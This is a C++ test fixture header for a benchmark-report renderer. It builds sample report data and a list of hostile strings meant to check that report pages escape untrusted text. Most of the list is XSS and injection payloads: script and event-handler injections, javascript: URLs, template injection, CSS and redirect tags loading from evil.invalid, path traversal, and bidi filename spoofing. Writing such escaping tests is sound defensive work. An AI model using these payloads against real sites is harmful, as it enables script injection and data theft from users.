// What pages are tested with: values of pairs, a history, a flame graph, and texts that try to be
// more than text.
#pragma once

#include <string>
#include <vector>

#include "core/report/exhibits.h"
#include "tests/unit/model/report_fixtures.h"

namespace melisai::fixtures {

/// Values around the medians of every row that has both, always the same.
inline report::Exhibits exhibits_of(const Report& report) {
  report::Exhibits exhibits;
  exhibits.repeat = "melisai-gate check --base main";
  for (const BenchmarkResult& row : report.benchmarks) {
    if (!row.base || !row.head) continue;
    report::ShownSeries series{.id = {row.name, row.metric.name}};
    for (int i = 1; i <= 12; ++i) {
      const double noise = 1 + 0.004 * ((i * 5) % 7 - 3);
      const double other = 1 + 0.004 * ((i * 3) % 5 - 2);
      series.pairs.push_back({.base = row.base->median * noise,
                              .head = row.head->median * other,
                              .base_first = i % 2 == 0,
                              .disturbed = i == 5});
      if (i >= 4)
        series.running.push_back(
            {i, row.effect.value_or(0) - 0.2 / i, row.effect.value_or(0) + 0.2 / i});
    }
    series.running.front().high = std::nullopt;
    if (row.decision == Decision::regressed) series.confirm_from = 7;
    exhibits.series.push_back(std::move(series));
  }
  report::ShownHistory history{
      .id = {"parse/BM_Small", "cpu_time"}, .unit = "ns", .points = {}, .changes = {6}};
  for (int i = 0; i < 10; ++i)
    history.points.push_back({"c0ffee" + std::to_string(i), (i < 6 ? 1000 : 1050) + i % 3 * 4.0});
  exhibits.history = {history};
  exhibits.flames = {{"flame/parse.svg",
                      "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"40\">"
                      "<rect width=\"400\" height=\"40\" fill=\"#eb7828\"/></svg>"}};
  return exhibits;
}

/// Each of them calls pwned() or asks for http://evil.invalid/ where a page takes it for more than
/// text.
inline const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> texts = {
      "<script>pwned()</script>",
      "</script><script>pwned()</script>",
      "<!--<script>pwned()</script>",
      "--><img src=x onerror=pwned()>",
      "\"><img src=http://evil.invalid/a onerror=pwned()>",
      "' autofocus onfocus=pwned() x='",
      "</title></style><svg onload=pwned()>",
      "</td></tr></table></pre><iframe srcdoc='<script>parent.pwned()</script>'>",
      "javascript:pwned()",
      "flame/../../evil.svg\" onload=\"pwned()",
      "&lt;script&gt;pwned()&lt;/script&gt;<a href=javascript:pwned()>x</a>",
      "\\u003cscript\\u003epwned()\\u003c/script\\u003e\\",
      "\xE2\x80\xA8pwned()\xE2\x80\xA9//\"];pwned();//",
      "evil\xE2\x80\xAE"
      "fdp.exe\xE2\x81\xA6\xE2\x80\x8F",
      "@import 'http://evil.invalid/b';url(http://evil.invalid/c)",
      "<base href=http://evil.invalid/><meta http-equiv=refresh "
      "content=0;url=http://evil.invalid/>",
      "<link rel=stylesheet href=http://evil.invalid/d><form action=http://evil.invalid/><input>",
      std::string("nul\0<b onmouseover=pwned()>\x1b[31m\xff\xc0", 34),
      "${pwned()}{{constructor.constructor('pwned()')()}}",
      "<template><style>*{background:url(http://evil.invalid/e)}</style></template>"};
  return texts;
}

/// A report with `text` wherever a stranger's text may be.
inline Report hostile_report(const std::string& text) {
  Report report = mixed_report();
  report.reason = report.project = report.tool_version = report.started_at = text;
  report.base = report.head = {text, text};
  report.machine.cpu_model = report.machine.kernel = report.machine.fingerprint = text;
  report.machine.virtualisation = report.machine.governor = text;
  for (BenchmarkResult& row : report.benchmarks)
    row.name = row.metric.name = row.metric.unit = row.note = row.gates_because = text;
  for (StageResult& stage : report.stages) {
    stage.status = StageResult::Status::failed;
    stage.name = stage.side = stage.command = stage.message = stage.log = stage.log_tail = text;
  }
  report.health = worse_health();
  report.health.note = text;
  for (Anomaly& each : report.health.new_anomalies) each.message = each.metric = text;
  for (Anomaly& each : report.health.resolved_anomalies) each.message = each.metric = text;
  for (Recommendation& each : report.health.recommendations) {
    each.title = each.evidence = text;
    each.commands = {text};
  }
  for (ResourceChange& each : report.health.resources) each.resource = each.use = text;
  report.warnings = {text};
  add_remarks(report, text, 1);
  for (Evidence& each : report.evidence) each.files.push_back({"flame_graph", text});
  return report;
}

inline report::Exhibits hostile_exhibits(const std::string& text) {
  report::Exhibits exhibits;
  exhibits.repeat = text;
  exhibits.series = {{.id = {text, text}, .pairs = {{1, 2}, {1, 3}}, .running = {}}};
  exhibits.history = {{{text, text}, text, {{text, 1}, {text, 2}}, {1}}};
  exhibits.flames = {{"flame/parse.svg",
                      "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned()\" "
                      "xmlns:x=\"http://www.w3.org/1999/xlink\"><script>pwned()</script>"
                      "<image x:href=\"http://evil.invalid/f\"/></svg>"},
                     {text, text}};
  return exhibits;
}

}  // namespace melisai::fixtures
